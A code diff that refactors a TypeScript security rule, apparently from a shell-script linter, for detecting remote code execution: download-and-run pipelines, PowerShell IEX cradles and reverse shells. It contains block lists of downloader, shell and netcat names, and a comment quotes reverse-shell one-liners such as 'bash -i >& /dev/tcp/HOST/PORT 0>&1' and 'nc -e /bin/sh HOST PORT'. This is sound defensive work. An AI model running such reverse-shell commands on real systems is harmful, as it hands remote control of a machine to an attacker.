@@ -1,32 +1,11 @@
 import { expressionEnd, outputRunAsCode } from '../analysis/flow.js';
+import { cmdletOf, isA, namesWith, program } from '../programs/index.js';
 import type { Hit, Rule, RuleContext } from '../rule.js';
 import type { Invocation } from '../shell/types.js';
 import type { Span } from '../types.js';
 
-/** Programs that fetch a URL and hand over what came back. */
-const DOWNLOADERS = new Set([
-  'curl',
-  'wget',
-  'http',
-  'https',
-  'xh',
-  'httpie',
-  'fetch',
-  'lynx',
-  'w3m',
-  'aria2c',
-  'invoke-webrequest',
-  'iwr',
-  'invoke-restmethod',
-  'irm',
-  'start-bitstransfer',
-]);
 /** PowerShell's `(New-Object Net.WebClient).DownloadString('…')`. */
 const DOWNLOAD_CALL = /\.Download(?:String|Data|File)\s*\(/i;
-
-/** Shells that, wired to a network connection, run whatever the other end sends. */
-const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'fish', 'pwsh', 'powershell']);
-const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd']);
 /** A socket as a file: `/dev/tcp/host/port` (bash, ksh). */
 const NET_DEVICE = /^\/dev\/(?:tcp|udp)\//;
 
@@ -59,7 +38,8 @@ export const execRemoteCode = {
       ],
     },
   },
-  programs: new Set([...DOWNLOADERS, ...SHELLS, ...NETCATS, 'socat', 'iex', 'invoke-expression']),
+  // downloaders, the shells a connection may be wired to, netcat and socat, and `iex`
+  programs: new Set([...namesWith('downloader', 'shell', 'raw-client'), 'iex', 'invoke-expression']),
   check(context) {
     const hits: Hit[] = [];
     for (const inv of context.invocations) {
@@ -68,11 +48,11 @@ export const execRemoteCode = {
         hits.push({ span: inv.span, detail: wired });
         continue;
       }
-      if (DOWNLOADERS.has(inv.name)) {
+      if (isA(inv.name, 'downloader')) {
         if (onlyLoopback(context, inv)) continue;
         const feed = outputRunAsCode(context, inv);
         if (feed) hits.push({ span: cover(inv.span, feed.runner.span), ...hostDetail(context, inv) });
-      } else if ((inv.name === 'iex' || inv.name === 'invoke-expression') && inv.args.length === 0) {
+      } else if (cmdletOf(inv.name) === 'invoke-expression' && inv.args.length === 0) {
         // `IEX (New-Object Net.WebClient).DownloadString('…')` and `… .DownloadString('…') | iex`
         const start = inv.pipeline.index > 0 ? pipelineStart(context, inv) : inv.span[1];
         const end = inv.pipeline.index > 0 ? inv.span[0] : expressionEnd(context.text, inv.span[1]);
@@ -88,10 +68,10 @@ export const execRemoteCode = {
  * here. `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh HOST PORT`, `socat exec:sh tcp:HOST:PORT`.
  */
 function remoteShell(inv: Invocation): string | undefined {
-  if (SHELLS.has(inv.name) && inv.redirects.some((r) => NET_DEVICE.test(r.target)))
+  if (isA(inv.name, 'shell') && inv.redirects.some((r) => NET_DEVICE.test(r.target)))
     return `${inv.name} on a network connection`;
   if (
-    NETCATS.has(inv.name) &&
+    program(inv.name)?.name === 'nc' &&
     inv.args.some(
       (a) => a === '-e' || a === '-c' || /^--(?:exec|sh-exec|lua-exec)(?:=|$)/.test(a) || /^-[A-Za-z]*e$/.test(a),
     )
@@ -108,21 +88,20 @@ function remoteShell(inv: Invocation): string | undefined {
 
 /** Every destination is this machine: a local dev server's script is the project's own. */
 function onlyLoopback(context: RuleContext, inv: Invocation): boolean {
-  const reached = context.net.filter((net) => net.invocation === inv);
+  const reached = context.netOf(inv);
   return reached.length > 0 && reached.every((net) => net.hostClass === 'loopback');
 }
 
 function hostDetail(context: RuleContext, inv: Invocation): { detail?: string } {
-  const host = context.net.find((net) => net.invocation === inv)?.host;
+  const host = context.netOf(inv)[0]?.host;
   return host === undefined ? {} : { detail: host };
 }
 
 /** Where the pipeline that feeds `inv` starts (its statement's start when the reader lists no earlier stage). */
 function pipelineStart(context: RuleContext, inv: Invocation): number {
   let start = inv.span[0];
-  for (const other of context.invocations) {
-    if (other.pipeline.id === inv.pipeline.id && other.span[0] < start) start = other.span[0];
-  }
+  for (const stage of context.pipeline(inv))
+    for (const other of stage.commands) if (other.span[0] < start) start = other.span[0];
   if (start < inv.span[0]) return start;
   const text = context.text;
   return Math.max(text.lastIndexOf(';', start - 1), text.lastIndexOf('\n', start - 1)) + 1;
